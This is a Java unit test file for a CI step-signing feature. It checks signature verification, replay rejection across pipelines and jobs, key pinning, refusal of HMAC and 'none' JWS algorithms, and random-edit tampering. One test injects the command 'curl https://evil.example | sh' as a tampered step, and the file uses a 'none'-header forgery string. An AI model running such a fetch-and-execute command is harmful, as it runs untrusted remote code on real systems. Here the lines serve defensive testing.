package org.cijwt.signedconfig;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.fasterxml.jackson.dataformat.yaml.YAMLMapper;
import com.nimbusds.jose.JWSAlgorithm;
import com.nimbusds.jose.JWSHeader;
import com.nimbusds.jose.JWSObject;
import com.nimbusds.jose.Payload;
import com.nimbusds.jose.crypto.MACSigner;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.List;
import java.util.Random;
import org.cijwt.errors.CiJwtException;
import org.cijwt.errors.ErrorCode;
import org.cijwt.fixtures.TestKeys;
import org.cijwt.jose.SigningAlgorithm;
import org.cijwt.keys.KeyEntry;
import org.cijwt.keys.KeyRing;
import org.cijwt.keys.PemKeySource;
import org.cijwt.keys.SigningKey;
import org.cijwt.keys.VerificationKeySource;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class StepSignaturesTest {
    private static final YAMLMapper YAML = new YAMLMapper();
    private static final String STEP = """
            task: use-vars
            privileged: false
            params: {EXTRA: "1"}
            config:
              platform: linux
              image_resource: {type: registry-image, source: {repository: busybox}}
              params: {VAULT_ADDR: ((.vault_addr)), AUTH_ROLE: example}
              inputs: [{name: repo}]
              outputs: [{name: out}]
              caches: [{path: .cache}]
              run:
                path: sh
                dir: repo
                user: build
                args: [-exc, 'test "((hvjwt:some_secret.username))" = "hello"']
            """;

    @TempDir
    Path dir;

    SigningKey author;
    KeyRing pinned;
    String authorThumbprint;

    @BeforeEach
    void keys() throws Exception {
        author = PemKeySource.file(TestKeys.copyPrivate(TestKeys.ED25519, dir)).load().requireSigner(SigningAlgorithm.EdDSA);
        pinned = new VerificationKeySource(TestKeys.copyPublic(TestKeys.ED25519_PUBLIC, dir)).load();
        authorThumbprint = KeyEntry.thumbprint(author.entry().jwk().toPublicJWK());
    }

    private static ObjectNode step() throws Exception {
        return (ObjectNode) YAML.readTree(STEP);
    }

    private static SignedFields fields(String pipeline, String job, JsonNode step) throws CiJwtException {
        return SignedFields.of("main", pipeline, job, step);
    }

    @Test
    void verifyWhenSignedStepRunsUnchangedThenVerifiedWithTheSignersThumbprintAndDigest() throws Exception {
        SignedFields f = fields("deploy", "apply", step());
        String signature = StepSignatures.sign(f, author);

        ConfigVerification v = StepSignatures.verify(fields("deploy", "apply", step()), signature, pinned);

        assertThat(v.status()).isEqualTo(ConfigVerification.Status.VERIFIED);
        assertThat(v.signer()).contains(authorThumbprint);
        assertThat(v.digest()).matches("sha256:[0-9a-f]{64}").isEqualTo(f.digest());
        assertThat(signature).matches("[A-Za-z0-9_-]+\\.\\.[A-Za-z0-9_-]+");
    }

    @Test
    void digestWhenKeysAreReorderedOrReformattedThenTheSameCanonicalBytes() throws Exception {
        JsonNode reordered = YAML.readTree("""
                config:
                  run: {args: [-exc, 'test "((hvjwt:some_secret.username))" = "hello"'], user: build, dir: repo, path: sh}
                  caches: [{path: .cache}]
                  outputs: [{name: out}]
                  inputs: [{name: repo}]
                  params: {AUTH_ROLE: example, VAULT_ADDR: ((.vault_addr))}
                  image_resource: {source: {repository: busybox}, type: registry-image}
                  platform: linux
                params: {EXTRA: "1"}
                privileged: false
                task: use-vars
                timeout: 1h
                """);
        assertThat(fields("deploy", "apply", reordered).digest()).isEqualTo(fields("deploy", "apply", step()).digest());
    }

    @Test
    void verifyWhenCommandChangedAfterSigningThenFailedWithBadSignature() throws Exception {
        String signature = StepSignatures.sign(fields("deploy", "apply", step()), author);
        ObjectNode changed = step();
        ((ArrayNode) changed.at("/config/run/args")).set(1, "curl https://evil.example | sh");

        ConfigVerification v = StepSignatures.verify(fields("deploy", "apply", changed), signature, pinned);

        assertThat(v.status()).isEqualTo(ConfigVerification.Status.FAILED);
        assertThat(v.reason().orElseThrow()).contains("main/deploy job apply, task use-vars").contains("bad signature");
        assertThat(v.signer()).isEmpty();
    }

    @Test
    void verifyWhenStepCopiedIntoAnotherPipelineThenFailedNamingWhereItWasSigned() throws Exception {
        String signature = StepSignatures.sign(fields("deploy", "apply", step()), author);

        ConfigVerification v = StepSignatures.verify(fields("other", "apply", step()), signature, pinned);

        assertThat(v.status()).isEqualTo(ConfigVerification.Status.FAILED);
        assertThat(v.reason().orElseThrow()).contains("replayed: signed for main/deploy job apply, task use-vars");
    }

    @Test
    void verifyWhenStepCopiedIntoAnotherJobThenFailedAsReplayed() throws Exception {
        String signature = StepSignatures.sign(fields("deploy", "apply", step()), author);

        ConfigVerification v = StepSignatures.verify(fields("deploy", "destroy", step()), signature, pinned);

        assertThat(v.reason().orElseThrow()).contains("replayed: signed for main/deploy job apply");
    }

    @Test
    void verifyWhenStepHasNoSignatureThenUnsigned() throws Exception {
        ConfigVerification v = StepSignatures.verify(fields("deploy", "apply", step()), null, pinned);

        assertThat(v.status()).isEqualTo(ConfigVerification.Status.UNSIGNED);
        assertThat(v.reason().orElseThrow()).endsWith(": unsigned");
        assertThat(v.digest()).startsWith("sha256:");
    }

    @Test
    void verifyWhenSignedByAKeyThatIsNotPinnedThenFailed() throws Exception {
        SigningKey stranger = PemKeySource.file(TestKeys.copyPrivate(TestKeys.P256, dir)).load().requireSigner(SigningAlgorithm.ES256);
        String signature = StepSignatures.sign(fields("deploy", "apply", step()), stranger);

        ConfigVerification v = StepSignatures.verify(fields("deploy", "apply", step()), signature, pinned);

        assertThat(v.status()).isEqualTo(ConfigVerification.Status.FAILED);
        assertThat(v.reason().orElseThrow()).contains("not pinned");
    }

    @Test
    void verifyWhenANewKeyIsPinnedBesideTheOldThenBothVerifyAndUnpinningStopsTheOldAtOnce() throws Exception {
        SigningKey next = PemKeySource.file(TestKeys.copyPrivate(TestKeys.P256, dir)).load().requireSigner(SigningAlgorithm.ES256);
        KeyRing both = pinned.withPublished(new VerificationKeySource(TestKeys.copyPublic(TestKeys.P256_PUBLIC, dir)).load(), "p256");
        String byOld = StepSignatures.sign(fields("deploy", "apply", step()), author);
        String byNext = StepSignatures.sign(fields("deploy", "apply", step()), next);

        assertThat(StepSignatures.verify(fields("deploy", "apply", step()), byOld, both).signer()).contains(authorThumbprint);
        assertThat(StepSignatures.verify(fields("deploy", "apply", step()), byNext, both).signer())
                .contains(KeyEntry.thumbprint(next.entry().jwk().toPublicJWK()));

        KeyRing onlyNext = new VerificationKeySource(TestKeys.copyPublic(TestKeys.P256_PUBLIC, dir)).load();
        assertThat(StepSignatures.verify(fields("deploy", "apply", step()), byOld, onlyNext).isVerified()).isFalse();
    }

    @Test
    void verifyWhenSignatureUsesHmacOrANoneHeaderThenFailedAsNotAllowed() throws Exception {
        SignedFields f = fields("deploy", "apply", step());
        JWSObject hs = new JWSObject(new JWSHeader.Builder(JWSAlgorithm.HS256).keyID(author.kid()).build(),
                new Payload(f.canonicalJson()));
        hs.sign(new MACSigner(new byte[32]));

        assertThat(StepSignatures.verify(f, hs.serialize(true), pinned).reason().orElseThrow()).contains("algorithm is not allowed");
        assertThat(StepSignatures.verify(f, "eyJhbGciOiJub25lIn0..", pinned).isVerified()).isFalse();
        assertThat(StepSignatures.verify(f, "not a jws", pinned).reason().orElseThrow()).contains("not a detached compact JWS");
    }

    @Test
    void signWhenStepTakesItsConfigFromAFileThenRefusedWithCode() throws Exception {
        JsonNode fileStep = YAML.readTree("task: build\nfile: repo/ci/build.yml\n");

        assertThatThrownBy(() -> SignedFields.of("main", "deploy", "apply", fileStep))
                .isInstanceOfSatisfying(CiJwtException.class, e -> assertThat(e.code()).isEqualTo(ErrorCode.SIGNED_STEP_INVALID))
                .hasMessageContaining("uses file:");
    }

    /** Property: any edit to any signed field of a signed step, however small, never verifies. */
    @Test
    void verifyWhenAnySignedFieldIsEditedAtRandomThenNeverVerified() throws Exception {
        String signature = StepSignatures.sign(fields("deploy", "apply", step()), author);
        Random random = new Random(20261201);
        int checked = 0;
        for (int i = 0; i < 400; i++) {
            ObjectNode edited = step();
            String what = mutate(edited, random);
            SignedFields f;
            try {
                f = fields(i % 7 == 0 ? "deploy-" + i : "deploy", i % 11 == 0 ? "apply" + i : "apply", edited);
            } catch (CiJwtException e) {
                continue;
            }
            ConfigVerification v = StepSignatures.verify(f, signature, pinned);
            assertThat(v.isVerified()).as("edit %d: %s", i, what).isFalse();
            checked++;
        }
        assertThat(checked).isGreaterThan(350);
    }

    /** Changes one signed leaf or structure of the step and says what it did. */
    private static String mutate(ObjectNode step, Random random) {
        List<JsonNode> containers = new ArrayList<>();
        for (String field : SignedFields.STEP_FIELDS) {
            collect(step.get(field), containers);
        }
        JsonNode target = containers.get(random.nextInt(containers.size()));
        if (target instanceof ObjectNode o) {
            List<String> names = new ArrayList<>();
            o.fieldNames().forEachRemaining(names::add);
            String name = names.isEmpty() ? null : names.get(random.nextInt(names.size()));
            switch (random.nextInt(4)) {
                case 0 -> o.put("added_" + random.nextInt(1000), "x");
                case 1 -> { if (name != null) o.remove(name); else o.put("k", 1); }
                case 2 -> { if (name != null) o.set(name, tweak(o.get(name), random)); else o.put("k", 2); }
                default -> { if (name != null) o.put(name, o.get(name).toString() + " "); else o.put("k", 3); }
            }
            return "object " + name;
        }
        ArrayNode a = (ArrayNode) target;
        switch (random.nextInt(3)) {
            case 0 -> a.add("extra");
            case 1 -> { if (!a.isEmpty()) a.remove(random.nextInt(a.size())); else a.add(0); }
            default -> { if (a.size() > 0) a.set(random.nextInt(a.size()), tweak(a.get(0), random)); else a.add(1); }
        }
        return "array";
    }

    private static JsonNode tweak(JsonNode value, Random random) {
        if (value.isTextual()) {
            String s = value.asText();
            int at = s.isEmpty() ? 0 : random.nextInt(s.length());
            return YAML.getNodeFactory().textNode(s.substring(0, at) + (char) ('a' + random.nextInt(26)) + s.substring(at));
        }
        if (value.isBoolean()) {
            return YAML.getNodeFactory().booleanNode(!value.asBoolean());
        }
        if (value.isNumber()) {
            return YAML.getNodeFactory().numberNode(value.asLong() + 1);
        }
        return YAML.getNodeFactory().textNode("replaced");
    }

    private static void collect(JsonNode node, List<JsonNode> into) {
        if (node == null) {
            return;
        }
        if (node.isContainerNode()) {
            into.add(node);
            for (Iterator<JsonNode> it = node.elements(); it.hasNext(); ) {
                collect(it.next(), into);
            }
        }
    }

    @Test
    void mutateWhenAppliedThenTheStepReallyChanges() throws Exception {
        Random random = new Random(7);
        for (int i = 0; i < 50; i++) {
            ObjectNode edited = step();
            mutate(edited, random);
            assertThat(fields("deploy", "apply", edited).digest()).isNotEqualTo(fields("deploy", "apply", step()).digest());
        }
    }
}
